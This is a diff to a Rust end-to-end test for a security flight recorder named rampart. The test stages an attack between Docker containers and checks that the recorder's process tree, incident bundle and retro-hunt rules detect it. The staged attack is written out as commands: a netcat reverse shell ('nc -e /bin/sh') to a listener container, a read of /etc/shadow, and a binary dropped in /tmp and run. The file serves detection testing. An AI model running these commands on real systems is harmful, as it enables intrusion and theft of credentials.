@@ -1,9 +1,12 @@
 //! The flight recorder end to end: `rampart up` records while an attack runs in a real
-//! container (a netcat reverse shell, a read of /etc/shadow, a binary dropped in /tmp
-//! and run), the container is removed, and then `rampart query` shows the chain as a
-//! process tree, `rampart incident` writes a bundle whose summary names each step, and
-//! a retro-hunt with the shipped rules finds the same attack in history. Needs root,
-//! the kernel and Docker: skips with the reason elsewhere, fails in CI.
+//! container: a reverse shell (busybox `nc -e /bin/sh` to a listener in a second
+//! container, which sends the next commands through it), a read of /etc/shadow, a
+//! binary dropped in /tmp and run. The container is removed (`docker rm -f`); sixty
+//! seconds later, beside the running writer, `rampart query --tree` shows the chain,
+//! `rampart incident` of the first alert writes a bundle whose summary names each
+//! step, a retro-hunt with the shipped rules finds the reverse shell again, and
+//! `rampart query --stats` and `rampart up --stats` show the recorder's counters.
+//! Needs root, the kernel and Docker: skips with the reason elsewhere, fails in CI.
 
 mod support;
 
@@ -38,23 +41,54 @@ fn a_removed_containers_attack_is_queried_bundled_and_retro_hunted() {
     let config = dir.join("up.yaml");
     std::fs::write(
         &config,
-        format!("recorder:\n  dir: {}\n", recording.display()),
+        format!(
+            "recorder:\n  dir: {}\n  stats_secs: 1\n",
+            recording.display()
+        ),
     )
     .unwrap();
-    let name = "rampart-rec-e2e";
+    let name = "rec-e2e";
     let rules = rampart_agent::config::default_rules_dir().expect("the shipped rules");
 
     let up = Up::start(&config);
+    // The attacker's end: sends the commands, one per line, to whoever calls back.
+    let commands = "cat /etc/shadow > /dev/null\n\
+                    cp /bin/busybox /tmp/dropper && /tmp/dropper true rampart-dropped\n\
+                    exit\n";
+    let listener = rampart_testbed::TestContainer::start(
+        "rec-e2e-listener",
+        &[],
+        &[
+            "sh",
+            "-c",
+            &format!("printf '{commands}' | nc -l -p 4444; sleep 300"),
+        ],
+    );
+    let attacker = listener.ip("bridge");
     let container = rampart_testbed::TestContainer::start(name, &[], &[]);
-    // The netcat has nobody to call; its command line is the attack.
-    container.exec("nc -w 1 127.0.0.1 4444 -e /bin/sh; true");
-    container.exec("cat /etc/shadow > /dev/null");
-    container.exec("cp /bin/busybox /tmp/dropper && /tmp/dropper true rampart-dropped");
+    std::thread::sleep(Duration::from_millis(500));
+    // The reverse shell: the commands above run in the victim through it.
+    container.exec(&format!("nc -w 5 {attacker} 4444 -e /bin/sh; true"));
+    let dropped = container.exec("ls /tmp");
+    assert!(
+        dropped.contains("dropper"),
+        "the shell ran the commands: {dropped:?}"
+    );
     up.alerts_until("Reverse shell via netcat exec");
     drop(container); // docker rm -f
-    std::thread::sleep(Duration::from_secs(1));
-    up.stop();
+    drop(listener);
+    // The issue's "sixty seconds later": the container is long gone, the writer runs.
+    std::thread::sleep(Duration::from_secs(60));
+    up.wait_stderr("rampart: recorder:");
     let dir_arg = recording.to_str().unwrap();
+    let stats = rampart(&["query", "--dir", dir_arg, "--stats"]);
+    let appended: u64 = stats
+        .lines()
+        .find_map(|l| l.trim().strip_prefix("appended"))
+        .and_then(|v| v.trim().parse().ok())
+        .unwrap_or_else(|| panic!("no appended count:\n{stats}"));
+    assert!(appended > 0, "{stats}");
+    assert!(stats.contains("shed"), "{stats}");
 
     // The chain, from history, after the container is gone.
     let tree = rampart(&[
@@ -67,9 +101,12 @@ fn a_removed_containers_attack_is_queried_bundled_and_retro_hunted() {
         "5m",
         "--tree",
     ]);
+    let shell = format!("nc -w 5 {attacker} 4444 -e /bin/sh");
     for step in [
-        "nc -w 1 127.0.0.1 4444 -e /bin/sh",
+        shell.as_str(),
         "cat /etc/shadow",
+        // (busybox sh runs cp in a fork without an exec: its write is in the
+        // summary below, not a process of its own here)
         "/tmp/dropper true rampart-dropped",
     ] {
         assert!(
@@ -77,6 +114,16 @@ fn a_removed_containers_attack_is_queried_bundled_and_retro_hunted() {
             "{step:?} missing from the tree:\n{tree}"
         );
     }
+    // One chain: the shell's commands are its descendants, not roots of their own.
+    let depth = |step: &str| {
+        tree.lines()
+            .find(|l| l.contains(step))
+            .map(|l| l.len() - l.trim_start().len())
+    };
+    assert!(
+        depth("cat /etc/shadow") > depth(&shell),
+        "the shadow read is under the reverse shell:\n{tree}"
+    );
     let table = rampart(&[
         "query",
         "--dir",
@@ -116,7 +163,13 @@ fn a_removed_containers_attack_is_queried_bundled_and_retro_hunted() {
         bundle.to_str().unwrap(),
     ]);
     let summary = read_from_bundle(&bundle, &dir, "summary.md");
-    for step in ["/etc/shadow", "/tmp/dropper", "nc"] {
+    for step in [
+        shell.as_str(),
+        &format!("{attacker}:4444"),
+        "/etc/shadow",
+        "/tmp/dropper",
+        "container died",
+    ] {
         assert!(
             summary.contains(step),
             "{step:?} missing from summary.md:\n{summary}"
@@ -144,6 +197,7 @@ fn a_removed_containers_attack_is_queried_bundled_and_retro_hunted() {
             .any(|a| a["rule"] == "Reverse shell via netcat exec" && a["retro"] == true),
         "{retro}"
     );
+    up.stop();
     let _ = std::fs::remove_dir_all(&dir);
 }
 
